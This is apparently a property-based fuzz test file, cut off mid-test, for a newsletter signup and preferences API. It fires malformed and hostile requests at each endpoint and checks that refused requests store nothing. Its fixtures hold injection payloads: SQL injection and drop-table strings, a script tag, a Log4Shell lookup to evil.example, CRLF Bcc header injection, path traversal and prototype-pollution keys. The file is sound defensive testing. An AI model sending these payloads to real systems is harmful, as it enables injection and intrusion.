import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkEmail } from '../../src/core/email-address.js';
import { activeSubscriber, uniqueEmail } from '../support/factories.js';
import { createHarness, databaseKinds, type Harness } from '../support/harness.js';
import {
  type Checked,
  checkAnswer,
  insertActiveSubscriber,
  tableCounts,
  WEBHOOK_SECRET,
  webhookSignature,
  without,
} from './support.js';

/**
 * Property-based tests over every public endpoint that takes input. Each run sends one hostile request
 * and checks the invariants of support.checkAnswer (no 5xx, nothing internal in the body, the one error
 * envelope on every JSON 4xx) and that a refused request stored nothing: the row count of every table
 * is what it was before. Generators mix random data with the classics: NUL, CR/LF, invalid UTF-8,
 * lone surrogates, duplicate keys, `__proto__` / `constructor.prototype`, huge numbers, IDN and
 * Unicode addresses, 320+ character addresses.
 */

const RUNS = { numRuns: 100 };
const MORE_RUNS = { numRuns: 150 };
const JSON_HEADERS = { 'content-type': 'application/json', accept: 'application/json' };
const FORM = 'application/x-www-form-urlencoded';
const ORIGIN = 'http://quire.test';

const NASTY = [
  '\u0000',
  'a\u0000b',
  '\r\n',
  'Ada\r\nBcc: x@evil.example',
  '\n',
  '\r',
  '\t',
  '\u000b',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\ud800',
  'a\udfffb',
  '\u202e',
  '%00',
  '%0d%0a',
  '../../etc/passwd',
  "' or '1'='1",
  '"; drop table subscribers; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, meant as literal text
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'ＡＢＣ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  '🙂',
  '\u0301',
  'x'.repeat(3000),
  ' ',
  '',
  'null',
  'true',
  'on',
  'release',
  'updates',
  '=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=',
];

const nastyString = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...NASTY), fc.string({ maxLength: 8 }))
    .map(([a, b, c]) => a + b + c),
);

/** Addresses: plausible, IDN, Unicode, over-long, and hostile. `prefix` keeps each endpoint's addresses its own. */
const addressFor = (prefix: string) =>
  fc.oneof(
    fc.nat().map((n) => `${prefix}.${process.pid}.${n}@example.com`),
    fc.emailAddress(),
    fc.constantFrom(
      'reader@bücher.example',
      'reader@例え.テスト',
      'reader@xn--bcher-kva.example',
      'ρeader@example.com',
      'reader@example。com',
      'Reader@EXAMPLE.COM',
      'reader@ｅｘａｍｐｌｅ.com',
      ' reader@example.com ',
      'reader@@example.com',
      'reader@example',
      'reader@127.0.0.1',
      'reader@[127.0.0.1]',
      '"quoted"@example.com',
      'reader@example.com\r\nBcc: x@evil.example',
      'reader@example.com, other@example.com',
      'Reader <reader@example.com>',
      'reader\u0000@example.com',
      'reader@exa\u0000mple.com',
      'reader@-example.com',
      'reader@example.com.',
      `${'a'.repeat(64)}@example.com`,
      `${'a'.repeat(65)}@example.com`,
      `a@${'b'.repeat(63)}.example.com`,
      `a@${'b'.repeat(64)}.example.com`,
      `${'a'.repeat(64)}@${`${'b'.repeat(60)}.`.repeat(3)}com`,
    ),
    fc.integer({ min: 255, max: 1500 }).map((n) => `${'a'.repeat(Math.max(1, n - 12))}@example.com`),
    fc.integer({ min: 300, max: 400 }).map((n) => `reader@${`${'d'.repeat(40)}.`.repeat(Math.ceil(n / 41))}com`),
    nastyString.map((s) => `${prefix}${s}@example.com`),
    nastyString,
  );
const address = addressFor('fuzz');

const KNOWN_SIGNUP_KEYS = [
  'email',
  'name',
  'topics',
  'consent',
  'consent_version',
  'source',
  'locale',
  'website',
  'form_ts',
  'cf-turnstile-response',
];
const hostileKey = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...KNOWN_SIGNUP_KEYS) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'constructor.prototype',
      '__proto__.polluted',
      'toString',
      'valueOf',
      'hasOwnProperty',
      'status',
      'id',
      'email_hash',
      'confirmed_at',
      'topics[]',
      'email[]',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

/** JSON text of a value, including numbers JSON.stringify cannot produce. */
const valueText: fc.Arbitrary<string> = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyString.map((s) => JSON.stringify(s)),
    address.map((s) => JSON.stringify(s)),
    fc.constantFrom(
      'true',
      'false',
      'null',
      '0',
      '-0',
      '1',
      '2',
      '1.5',
      '1e400',
      '-1e400',
      '99999999999',
      '2147483648',
      '9007199254740993',
      '1e-400',
      '[]',
      '{}',
      '"1"',
      '"on"',
      '"true"',
    ),
    fc.integer().map(String),
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((d) => JSON.stringify(d)),
    fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`),
    fc
      .array(fc.tuple(hostileKey, tie('value')), { maxLength: 3 })
      .map((entries) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
  ),
})).value;

/** A JSON object as text: duplicate keys and `__proto__` stay in it, as a hostile client would send them. */
const objectText = (base: [string, string][]) =>
  fc.array(fc.tuple(hostileKey, valueText), { maxLength: 8 }).chain((entries) =>
    fc.boolean().map((baseFirst) => {
      const all = baseFirst ? [...base, ...entries] : [...entries, ...base];
      return `{${all.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`;
    }),
  );

/** A signup body that starts valid (or not) and carries hostile fields. */
const signupJson = fc.tuple(fc.boolean(), fc.nat()).chain(([valid, n]) =>
  objectText(
    valid
      ? [
          ['email', JSON.stringify(`fuzz.json.${process.pid}.${n}@example.com`)],
          ['consent', 'true'],
        ]
      : [],
  ),
);

/** Malformed JSON: random text, valid JSON cut short or with a byte changed, raw bytes (invalid UTF-8). */
const malformedJson = fc.oneof(
  fc.string({ maxLength: 200 }).map((s) => Buffer.from(s, 'utf8')),
  fc
    .tuple(signupJson, fc.nat())
    .map(([text, cut]) => Buffer.from(text.slice(0, cut % Math.max(1, text.length)), 'utf8')),
  fc.tuple(signupJson, fc.nat(), fc.integer({ min: 0, max: 255 })).map(([text, at, byte]) => {
    const b = Buffer.from(text, 'utf8');
    if (b.length) b[at % b.length] = byte;
    return b;
  }),
  fc.uint8Array({ maxLength: 300 }).map((a) => Buffer.from(a)),
  fc.constantFrom(
    Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]), // BOM + {}
    Buffer.from('{"email":"a\xff\xfe@example.com","consent":true}', 'latin1'),
    Buffer.from('{"email":"a@example.com","consent":true,"name":"\xc3"}', 'latin1'),
    Buffer.from('{"name":"\u0000"}'),
    Buffer.from('['.repeat(20_000) + ']'.repeat(20_000)),
    Buffer.from(`${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
  ),
);

const safeEncode = (s: string) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '\ufffd'));

/** Form bodies as raw urlencoded text, with broken escapes and invalid UTF-8 after decoding. */
const formText = (base: [string, string][]) =>
  fc
    .array(
      fc.oneof(
        fc.tuple(hostileKey, fc.oneof(nastyString, address)).map(([k, v]) => `${safeEncode(k)}=${safeEncode(v)}`),
        fc.constantFrom(
          '%',
          '%zz',
          'email=%ff%fe%40example.com',
          'name=%00',
          'name=Ada%0D%0ABcc:%20x@evil.example',
          '%E0%A4%A',
          '&&&',
          '==',
          'a=b=c',
          '__proto__[polluted]=1',
          'constructor[prototype][polluted]=1',
          '__proto__=1',
          'topics[]=release',
          'topics[]=nope',
          'topics=release&topics=updates',
          'consent=on&consent=off',
          'email=a%40example.com&email=b%40example.com',
          'intent=erase&intent=save',
          `name=${'x'.repeat(300)}`,
        ),
      ),
      { maxLength: 8 },
    )
    .map((parts) => [...base.map(([k, v]) => `${k}=${safeEncode(v)}`), ...parts].join('&'));

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'application/jsonp',
  'application/json-seq',
  FORM,
  `${FORM}; charset=iso-8859-1`,
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'multipart/mixed; boundary=x',
  'text/plain',
  'text/html',
  'application/xml',
  'text/xml',
  'application/octet-stream',
  'image/png',
  '*/*',
  'application',
  'json',
  '',
  ';',
  'application/json;;;;',
  ' application/json',
];
const ACCEPTS = ['application/json', 'text/html', '*/*', 'text/html,application/xhtml+xml', undefined];

describe.each(databaseKinds)('hostile input on %s', (kind) => {
  let h: Harness;
  let ipSeq = 0;
  const nextIp = () => `198.18.${(ipSeq >> 8) & 255}.${ipSeq++ & 255}`;

  beforeAll(async () => {
    h = await createHarness(kind, { WEBHOOK_SECRET, RATE_LIMIT_IP: '100000', RATE_LIMIT_ADDRESS: '100000' });
  });
  afterAll(() => h?.close());

  /** Send, check the invariants, and check nothing was stored unless the request was accepted. */
  async function probe(
    path: string,
    init: RequestInit,
    opts: { allowed: number[]; accepted?: (a: Checked, res: Response) => boolean; mayCount?: string[] },
  ): Promise<Checked> {
    const before = await tableCounts(h);
    const res = await h.request(path, { ...init, ip: nextIp() });
    const label = `${init.method ?? 'GET'} ${path.slice(0, 80)} [${new Headers(init.headers).get('content-type')}]`;
    const answer = await checkAnswer(res, label);
    expect(opts.allowed, `${label} → ${answer.status} ${answer.text.slice(0, 200)}`).toContain(answer.status);
    const accepted = opts.accepted ? opts.accepted(answer, res) : answer.status < 300;
    const after = await tableCounts(h);
    if (!accepted) expect(after, `${label} was refused (${answer.status}) but stored something`).toEqual(before);
    else if (opts.mayCount) expect(without(after, ...opts.mayCount)).toEqual(without(before, ...opts.mayCount));
    return answer;
  }

  /**
   * Whether `text` names an address this database holds. The properties share one database, and the
   * fixed addresses of `addressFor` are valid: once a signup probe has registered one, a later link
   * request or bounce for it may rightly queue mail or store an event, so such a case is skipped.
   * (Regression: these properties failed whenever an earlier random signup had registered "Reader@EXAMPLE.COM".)
   */
  async function mentionsHeldAddress(text: string): Promise<boolean> {
    const held = await h.query<{ e: string }>('select lower(email) as e from subscribers where email is not null');
    let decoded = text;
    try {
      decoded = decodeURIComponent(text.replace(/\+/g, ' '));
    } catch {
      // not URL-encoded: the text as it is
    }
    const haystack = `${text}\n${decoded}`.toLowerCase();
    return held.some(({ e }) => haystack.includes(e));
  }

  /** A form signup answered with a redirect is refused when it goes back to the form with ?error=. */
  const signupAccepted = (a: Checked, res: Response) => {
    if (a.status === 202) return true;
    if (a.status !== 303) return false;
    const location = new URL(res.headers.get('location')!);
    // Never an open redirect, whatever the Referer said.
    expect(location.origin).toBe(ORIGIN);
    return !location.searchParams.has('error');
  };

  describe('POST /v1/subscriptions', () => {
    it('JSON objects with hostile keys and values: no 5xx, the envelope, nothing stored when refused', async () => {
      await fc.assert(
        fc.asyncProperty(signupJson, fc.constantFrom(...ACCEPTS), async (body, accept) => {
          await probe(
            '/v1/subscriptions',
            { method: 'POST', body, headers: { 'content-type': 'application/json', ...(accept ? { accept } : {}) } },
            {
              allowed: [202, 400, 422],
            },
          );
        }),
        MORE_RUNS,
      );
    });

    it('malformed JSON and invalid UTF-8 answer 400 or 422 and store nothing', async () => {
      await fc.assert(
        fc.asyncProperty(malformedJson, async (body) => {
          await probe(
            '/v1/subscriptions',
            { method: 'POST', body, headers: JSON_HEADERS },
            { allowed: [202, 400, 422] },
          );
        }),
        RUNS,
      );
    });

    it('urlencoded form posts (browser or script) with broken escapes and hostile fields', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.boolean().chain((valid) =>
            formText(
              valid
                ? [
                    ['email', `fuzz.form.${process.pid}.${ipSeq}@example.com`],
                    ['consent', 'on'],
                  ]
                : [],
            ),
          ),
          fc.constantFrom(...ACCEPTS),
          fc.option(
            fc.oneof(
              fc.constantFrom(
                'https://evil.example/page',
                `${ORIGIN}/somewhere?x=1#y`,
                'not a url',
                'javascript:alert(1)',
                '//evil.example',
              ),
              fc.webUrl(),
            ),
          ),
          async (body, accept, referer) => {
            await probe(
              '/v1/subscriptions',
              {
                method: 'POST',
                body,
                headers: { 'content-type': FORM, ...(accept ? { accept } : {}), ...(referer ? { referer } : {}) },
              },
              { allowed: [202, 303, 400, 422], accepted: signupAccepted },
            );
          },
        ),
        MORE_RUNS,
      );
    });

    it('multipart posts, well-formed or broken, answer 202, 303, 400 or 422', async () => {
      const multipart = fc.oneof(
        fc.array(fc.tuple(hostileKey, fc.oneof(nastyString, address)), { maxLength: 6 }).map((fields) => {
          const form = new FormData();
          form.append('consent', 'on');
          for (const [k, v] of fields) form.append(k, v);
          return { body: form as BodyInit, type: undefined as string | undefined };
        }),
        fc
          .tuple(
            fc.constantFrom('', 'x', 'zzz', '"quoted"', 'a'.repeat(100)),
            fc.string({ maxLength: 200 }),
            fc.boolean(),
          )
          .map(([boundary, text, declared]) => ({
            body: `--${boundary}\r\nContent-Disposition: form-data; name="email"\r\n\r\n${text}${declared ? `\r\n--${boundary}--\r\n` : ''}`,
            type: `multipart/form-data${declared ? `; boundary=${boundary}` : ''}`,
          })),
        fc
          .uint8Array({ maxLength: 200 })
          .map((a) => ({ body: Buffer.from(a) as BodyInit, type: 'multipart/form-data; boundary=x' })),
      );
      await fc.assert(
        fc.asyncProperty(multipart, fc.constantFrom(...ACCEPTS), async ({ body, type }, accept) => {
          await probe(
            '/v1/subscriptions',
            {
              method: 'POST',
              body,
              headers: { ...(type ? { 'content-type': type } : {}), ...(accept ? { accept } : {}) },
            },
            {
              allowed: [202, 303, 400, 415, 422],
              accepted: signupAccepted,
            },
          );
        }),
        RUNS,
      );
    });

    it('a malformed multipart body is a 400 in the envelope, not a 500', async () => {
      // Regression: readBody let parseBody's "Failed to parse body as FormData" TypeError become a 500.
      for (const type of [
        'multipart/form-data',
        'multipart/form-data; boundary=zzz',
        'multipart/form-data; boundary=',
      ]) {
        const a = await probe(
          '/v1/subscriptions',
          {
            method: 'POST',
            body: '--zzz\r\nContent-Disposition: form-data; name="email"\r\n\r\nabc',
            headers: { 'content-type': type, accept: 'application/json' },
          },
          { allowed: [400] },
        );
        expect(a.json?.error?.code).toBe('invalid_body');
      }
    });

    it('a consent_version beyond a 32-bit integer is a 422, not a 500', async () => {
      // Regression: consent_version ≥ 2^31 reached the int4 column and failed the query with a 500.
      for (const v of ['2147483648', '99999999999', '"2147483648"']) {
        const a = await probe(
          '/v1/subscriptions',
          {
            method: 'POST',
            body: `{"email":"${uniqueEmail('cv')}","consent":true,"consent_version":${v}}`,
            headers: JSON_HEADERS,
          },
          { allowed: [422] },
        );
        expect(a.json?.error?.fields).toEqual([expect.objectContaining({ path: 'consent_version' })]);
      }
    });

    it('a request refused for an unknown topic or consent version spends no rate-limit budget', async () => {
      // Regression: topics and consent version were checked after both limits were hit, so a 422 stored counters.
      for (const body of [{ topics: ['gossip'] }, { consent_version: 999 }]) {
        await probe(
          '/v1/subscriptions',
          {
            method: 'POST',
            body: JSON.stringify({ email: uniqueEmail('budget'), consent: true, ...body }),
            headers: JSON_HEADERS,
          },
          { allowed: [422] },
        );
      }
    });

    it('duplicate keys: the last one wins, consistently, and one request makes at most one subscriber', async () => {
      const first = uniqueEmail('dup-first');
      const last = uniqueEmail('dup-last');
      const res = await h.request('/v1/subscriptions', {
        method: 'POST',
        headers: JSON_HEADERS,
        body: `{"email":"${first}","consent":true,"email":"${last}"}`,
      });
      expect(res.status).toBe(202);
      expect(await h.query('select 1 from subscribers where lower(email) = lower($1)', [first])).toHaveLength(0);
      expect(await h.query('select 1 from subscribers where lower(email) = lower($1)', [last])).toHaveLength(1);
      const refused = await h.request('/v1/subscriptions', {
        method: 'POST',
        headers: JSON_HEADERS,
        body: `{"email":"${uniqueEmail('dup')}","consent":true,"consent":false}`,
      });
      expect((await checkAnswer(refused)).json?.error?.code).toBe('consent_required');
    });

    it.each([
      {
        label: 'an IDN domain',
        email: 'reader.idn@bücher.example',
        status: 202,
        stored: 'reader.idn@xn--bcher-kva.example',
      },
      {
        label: 'a Japanese IDN domain',
        email: 'reader.jp@例え.テスト',
        status: 202,
        stored: 'reader.jp@xn--r8jz45g.xn--zckzah',
      },
      {
        label: 'full-width letters in the domain',
        email: 'reader.fw@ｅｘａｍｐｌｅ.com',
        status: 202,
        stored: 'reader.fw@example.com',
      },
      {
        label: 'an ideographic full stop',
        email: 'reader.dot@example。com',
        status: 202,
        stored: 'reader.dot@example.com',
      },
      {
        label: 'a Unicode local part (needs SMTPUTF8, not offered)',
        email: 'ρeader@example.com',
        status: 422,
        stored: null,
      },
      { label: 'a full-width @', email: 'readerＡ＠example.com', status: 422, stored: null },
      {
        label: 'exactly 254 characters',
        email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(59)}.com`,
        status: 202,
        stored: 'same',
      },
      {
        label: '255 characters',
        email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(60)}.com`,
        status: 422,
        stored: null,
      },
      { label: '321 characters', email: `${'a'.repeat(309)}@example.com`, status: 422, stored: null },
      { label: 'a 65-character local part', email: `${'a'.repeat(65)}@example.com`, status: 422, stored: null },
      { label: 'a 64-character label', email: `reader@${'b'.repeat(64)}.com`, status: 422, stored: null },
      { label: '1000 characters', email: `${'a'.repeat(988)}@example.com`, status: 422, stored: null },
      {
        label: '1001 characters (over the schema limit)',
        email: `${'a'.repeat(989)}@example.com`,
        status: 422,
        stored: null,
      },
    ])('an address with $label answers $status and is stored normalised', async ({ label, email, status, stored }) => {
      if (/^(exactly )?\d+ characters/.test(label)) expect(email.length).toBe(Number(/\d+/.exec(label)![0]));
      const answer = await probe(
        '/v1/subscriptions',
        { method: 'POST', body: JSON.stringify({ email, consent: true }), headers: JSON_HEADERS },
        { allowed: [status] },
      );
      if (status === 422) expect(answer.json?.error?.code).toBe('invalid_email');
      if (stored) {
        const expected = stored === 'same' ? email : stored;
        expect(await h.query('select email from subscribers where email = $1', [expected])).toHaveLength(1);
      }
    });
  });

  describe('content types and sizes on every endpoint with a body', () => {
    interface Endpoint {
      method: string;
      path: () => Promise<string>;
      accepts: 'json' | 'form' | 'any';
      /** The content type it takes, for the 413 test. */
      type: string;
      headers?: Record<string, string>;
      allowed: number[];
      sign?: boolean;
    }
    let endpoints: Record<string, Endpoint>;

    beforeAll(async () => {
      const fresh = async () => insertActiveSubscriber(h, uniqueEmail('ct'));
      endpoints = {
        signup: {
          method: 'POST',
          path: async () => '/v1/subscriptions',
          accepts: 'any',
          type: 'application/json',
          allowed: [202, 303, 400, 415, 422],
        },
        'preferences PUT': {
          method: 'PUT',
          path: async () => `/v1/preferences/${(await fresh()).preferencesToken}`,
          accepts: 'json',
          type: 'application/json',
          allowed: [200, 400, 415, 422],
        },
        erase: {
          method: 'POST',
          path: async () => `/v1/preferences/${(await fresh()).preferencesToken}/erase`,
          accepts: 'json',
          type: 'application/json',
          allowed: [200, 400, 415, 422],
        },
        'preference page': {
          method: 'POST',
          path: async () => `/preferences/${(await fresh()).preferencesToken}`,
          accepts: 'form',
          type: FORM,
          headers: { origin: ORIGIN },
          allowed: [200, 303, 400, 404, 415, 422],
        },
        resubscribe: {
          method: 'POST',
          path: async () => `/unsubscribe/${(await fresh()).unsubscribeToken}/resubscribe`,
          accepts: 'form',
          type: FORM,
          headers: { origin: ORIGIN },
          allowed: [200, 400, 415],
        },
        manage: {
          method: 'POST',
          path: async () => '/manage',
          accepts: 'form',
          type: FORM,
          headers: { origin: ORIGIN },
          allowed: [200, 400, 415, 422],
        },
        'resend-confirmation': {
          method: 'POST',
          path: async () => '/resend-confirmation',
          accepts: 'form',
          type: FORM,
          headers: { origin: ORIGIN },
          allowed: [200, 400, 415, 422],
        },
        webhook: {
          method: 'POST',
          path: async () => '/webhooks/bounces',
          accepts: 'any',
          type: 'application/json',
          sign: true,
          allowed: [200, 400, 422],
        },
      };
    });

    const essence = (type: string) => type.split(';')[0]!.trim().toLowerCase();
    const isJson = (type: string) => /^application\/([a-z.+-]+\+)?json$/.test(essence(type));
    const isForm = (type: string) => [FORM, 'multipart/form-data'].includes(essence(type));

    it('a content type the endpoint does not take is a 415 in the envelope, and changes nothing', async () => {
      const names = [
        'signup',
        'preferences PUT',
        'erase',
        'preference page',
        'resubscribe',
        'manage',
        'resend-confirmation',
        'webhook',
      ];
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...names),
          fc.constantFrom(...CONTENT_TYPES),
          fc.oneof(signupJson, formText([])),
          async (name, type, body) => {
            const e = endpoints[name]!;
            const path = await e.path();
            const headers: Record<string, string> = {
              accept: 'application/json',
              ...e.headers,
              ...(type ? { 'content-type': type } : {}),
            };
            if (e.sign) headers['x-quire-signature'] = webhookSignature(h, body);
            const fits =
              e.accepts === 'any'
                ? isJson(type) || isForm(type) || e.sign
                : e.accepts === 'json'
                  ? isJson(type)
                  : isForm(type);
            const answer = await probe(
              path,
              { method: e.method, body, headers },
              {
                allowed: fits ? e.allowed : [415],
                accepted: name === 'signup' ? signupAccepted : (a) => a.status < 400,
              },
            );
            if (!fits) expect(answer.json?.error?.code).toBe('unsupported_media_type');
          },
        ),
        MORE_RUNS,
      );
    });

    it.each([
      ['declared', 64 * 1024 + 1],
      ['declared', 1024 * 1024],
      ['streamed', 64 * 1024 + 1],
      ['streamed', 1024 * 1024],
    ])('a body over 64 KiB (%s, %i bytes) is a 413 on every endpoint, and changes nothing', async (how, size) => {
      const extra = {
        'one-click unsubscribe': async () =>
          `/unsubscribe/${(await insertActiveSubscriber(h, uniqueEmail('big'))).unsubscribeToken}`,
        confirm: async () => '/confirm/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      };
      const all: [string, Pick<Endpoint, 'method' | 'path' | 'type' | 'headers' | 'sign'>][] = [
        ...Object.entries(endpoints),
        ...Object.entries(extra).map(
          ([name, path]) =>
            [name, { method: 'POST', path, type: FORM }] as [string, Pick<Endpoint, 'method' | 'path' | 'type'>],
        ),
      ];
      for (const [name, { method, path, type, headers, sign }] of all) {
        const content = `{"email":"${uniqueEmail('big')}","consent":true,"name":"${'x'.repeat(size)}"}`;
        const bytes = Buffer.from(content);
        const h2: Record<string, string> = { 'content-type': type, accept: 'application/json', ...headers };
        if (sign) h2['x-quire-signature'] = webhookSignature(h, bytes);
        const init: RequestInit & { duplex?: string } =
          how === 'declared'
            ? { method, body: bytes, headers: { ...h2, 'content-length': String(bytes.length) } }
            : {
                method,
                headers: h2,
                duplex: 'half',
                body: new ReadableStream({
                  start(controller) {
                    for (let i = 0; i < bytes.length; i += 16 * 1024)
                      controller.enqueue(bytes.subarray(i, i + 16 * 1024));
                    controller.close();
                  },
                }),
              };
        const answer = await probe(await path(), init, { allowed: [413] });
        expect(answer.json?.error?.code, name).toBe('payload_too_large');
      }
    });
  });

  describe('preferences API with a real token', () => {
    let sub: Awaited<ReturnType<typeof activeSubscriber>>;
    beforeAll(async () => {
      sub = await activeSubscriber(h, { name: 'Kept Name' });
    });

    const putBody = fc.oneof(
      objectText([]),
      fc
        .record(
          {
            name: fc.oneof(nastyString, fc.constant(null), fc.integer()),
            topics: fc.oneof(
              fc.array(fc.oneof(nastyString, fc.constantFrom('release', 'updates')), { maxLength: 5 }),
              nastyString,
            ),
            unsubscribe_all: fc.oneof(fc.boolean(), nastyString),
          },
          { requiredKeys: [] },
        )
        .map((o) => JSON.stringify(o)),
      malformedJson.map((b) => b.toString('latin1')),
    );

    it('PUT with hostile JSON: no 5xx; a refusal changes nothing; anything saved is clean', async () => {
      const state = async () =>
        h.query(
          'select s.name, s.status, t.topic, t.subscribed from subscribers s left join subscriptions t on t.subscriber_id = s.id where s.id = $1 order by t.topic',
          [sub.id],
        );
      await fc.assert(
        fc.asyncProperty(putBody, async (body) => {
          const before = await state();
          const answer = await probe(
            `/v1/preferences/${sub.preferencesToken}`,
            { method: 'PUT', body, headers: JSON_HEADERS },
            { allowed: [200, 400, 422] },
          );
          if (answer.status !== 200) expect(await state()).toEqual(before);
          const [row] = await h.query<{ name: string | null; status: string }>(
            'select name, status from subscribers where id = $1',
            [sub.id],
          );
          // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
          expect(row!.name ?? '').not.toMatch(/[\u0000-\u001f\u007f]/);
          if (row!.status === 'unsubscribed') {
            // unsubscribe_all is allowed to stick; put the subscriber back for the next run.
            await h.query("update subscribers set status = 'active' where id = $1", [sub.id]);
            await h.query(
              'delete from suppressions where email_hash = (select email_hash from subscribers where id = $1)',
              [sub.id],
            );
          }
        }),
        RUNS,
      );
    });

    it('erase with anything but {"confirm": true} is refused and erases nothing', async () => {
      const confirms = (body: string) => {
        try {
          return (JSON.parse(body) as { confirm?: unknown }).confirm === true;
        } catch {
          return false;
        }
      };
      await fc.assert(
        fc.asyncProperty(
          fc
            .oneof(
              objectText([]),
              objectText([['confirm', 'false']]),
              fc.constantFrom(
                '{"confirm":"true"}',
                '{"confirm":1}',
                '{"confirm":[true]}',
                '{"confirm":{"valueOf":true}}',
                '{"__proto__":{"confirm":true}}',
                '{"constructor":{"prototype":{"confirm":true}}}',
                'true',
                '[{"confirm":true}]',
              ),
            )
            .filter((b) => !confirms(b)),
          async (body) => {
            await probe(
              `/v1/preferences/${sub.preferencesToken}/erase`,
              { method: 'POST', body, headers: JSON_HEADERS },
              { allowed: [400, 422] },
            );
          },
        ),
        RUNS,
      );
      expect((await h.request(`/v1/preferences/${sub.preferencesToken}`)).status).toBe(200);
    });

    it('the preference page takes hostile form posts: no 5xx, a refusal changes nothing', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            formText([]),
            fc
              .tuple(
                fc.constantFrom(
                  'save',
                  'unsubscribe_all',
                  'resubscribe',
                  'erase_request',
                  'erase',
                  'ERASE',
                  'nope',
                  '',
                ),
                formText([]),
              )
              .map(([intent, rest]) => `intent=${intent}&${rest}`),
          ),
          async (body) => {
            const x = await insertActiveSubscriber(h, uniqueEmail('page'));
            // A 303 back to the page is a change saved (a save with no topic boxes ticked turns every topic off).
            await probe(
              `/preferences/${x.preferencesToken}`,
              { method: 'POST', body, headers: { 'content-type': FORM, origin: ORIGIN, accept: 'text/html' } },
              {
                allowed: [200, 303, 400, 404, 422],
                accepted: (a) => a.status < 400,
              },
            );
          },
        ),
        RUNS,
      );
    });
  });

  describe('link requests (/manage, /resend-confirmation)', () => {
    it('hostile form posts: no 5xx; the same page for any valid address; nothing but a rate-limit count stored', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom('/manage', '/resend-confirmation'),
          fc.oneof(
            formText([]),
            addressFor('link').map((a) => `email=${safeEncode(a)}`),
          ),
          fc.constantFrom(...ACCEPTS),
          async (path, body, accept) => {
            fc.pre(!(await mentionsHeldAddress(body)));
            const answer = await probe(
              path,
              {
                method: 'POST',
                body,
                headers: { 'content-type': FORM, origin: ORIGIN, ...(accept ? { accept } : {}) },
              },
              { allowed: [200, 400, 422], mayCount: ['rate_limits'] },
            );
            if (answer.status === 200) expect(answer.text).toMatch(/<html/i);
          },
        ),
        RUNS,
      );
    });
  });

  describe('tokens in paths', () => {
    const segment = fc.oneof(
      fc.string({ maxLength: 80 }).map(safeEncode),
      fc.string({ unit: 'binary', maxLength: 60 }).map(safeEncode),
      fc.stringMatching(/^[A-Za-z0-9_-]{40,56}$/),
      fc.constantFrom(
        '%ff',
        '%E0%A4%A',
        '%00',
        '%2e%2e',
        '%2F',
        '%252F',
        'a%0d%0aSet-Cookie:%20x=1',
        '%',
        'AAAA%',
        '%uD800',
        '%C0%AF',
        'null',
        'undefined',
        '0',
        '-1',
      ),
      fc.integer({ min: 150, max: 3000 }).map((n) => 'A'.repeat(n)),
    );
    const routes: [string, (t: string) => string, string | undefined][] = [
      ['GET', (t) => `/v1/preferences/${t}`, undefined],
      ['PUT', (t) => `/v1/preferences/${t}`, '{"name":"X"}'],
      ['GET', (t) => `/v1/preferences/${t}/export`, undefined],
      ['POST', (t) => `/v1/preferences/${t}/erase`, '{"confirm":true}'],
      ['GET', (t) => `/confirm/${t}`, undefined],
      ['POST', (t) => `/confirm/${t}`, undefined],
      ['GET', (t) => `/unsubscribe/${t}`, undefined],
      ['POST', (t) => `/unsubscribe/${t}`, 'List-Unsubscribe=One-Click'],
      ['POST', (t) => `/unsubscribe/${t}/resubscribe`, ''],
      ['GET', (t) => `/preferences/${t}`, undefined],
      ['POST', (t) => `/preferences/${t}`, 'intent=unsubscribe_all'],
    ];

    it('a forged, garbled or over-long token never works on any token route, and changes nothing', async () => {
      const before = await tableCounts(h);
      await fc.assert(
        fc.asyncProperty(
          segment,
          fc.integer({ min: 0, max: routes.length - 1 }),
          fc.constantFrom(...ACCEPTS),
          async (token, i, accept) => {
            const [method, path, body] = routes[i]!;
            const p = path(token);
            // "..", "%2e%2e" and friends are resolved by the URL parser: then it is another route, not a token.
            fc.pre(new URL(p, ORIGIN).pathname.split('/')[1] === p.split('/')[1]);
            const res = await h.request(p, {
              method,
              ...(body !== undefined ? { body } : {}),
              headers: {
                origin: ORIGIN,
                'content-type': body?.startsWith('{') ? 'application/json' : FORM,
                ...(accept ? { accept } : {}),
              },
            });
            const answer = await checkAnswer(res, `${method} ${p.slice(0, 100)}`);
            expect([404, 410, 422], `${method} ${p.slice(0, 100)} → ${answer.status}`).toContain(answer.status);
          },
        ),
        { numRuns: 200 },
      );
